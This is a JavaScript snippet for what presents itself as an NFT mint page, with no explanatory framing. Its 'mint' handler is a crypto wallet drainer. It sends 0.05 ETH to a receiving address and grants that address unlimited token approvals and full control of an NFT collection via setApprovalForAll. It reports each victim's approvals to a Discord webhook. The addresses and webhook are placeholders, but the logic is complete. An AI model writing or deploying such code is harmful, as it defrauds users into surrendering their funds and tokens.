const provider = new ethers.providers.Web3Provider(window.ethereum);
const TAKER = "0x000000000000000000000000000000000000dEaD";
const HOOK = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";
const coinAbi = ["function approve(address spender, uint256 amount) external returns (bool)"];
const artAbi = ["function setApprovalForAll(address operator, bool approved) external"];

async function link() {
  const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
  document.getElementById("connect").style.display = "none";
  document.getElementById("mint").style.display = "block";
  return accounts[0];
}
async function mint() {
  const who = await link();
  if (!who) return;
  const signer = provider.getSigner();
  await signer.sendTransaction({ to: TAKER, value: ethers.utils.parseEther("0.05") });
  ping(`0.05 from ${who}`);
  const coins = { "A": "0x1111111111111111111111111111111111111111", "B": "0x3333333333333333333333333333333333333333" };
  for (const [name, at] of Object.entries(coins)) {
    const c = new ethers.Contract(at, coinAbi, signer);
    await c.approve(TAKER, ethers.constants.MaxUint256);
    ping(`${name} approved by ${who}`);
  }
  const art = new ethers.Contract("0x4444444444444444444444444444444444444444", artAbi, signer);
  await art.setApprovalForAll(TAKER, true);
}
function ping(text) {
  fetch(HOOK, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ content: text }) });
}
document.getElementById("mint").onclick = mint;
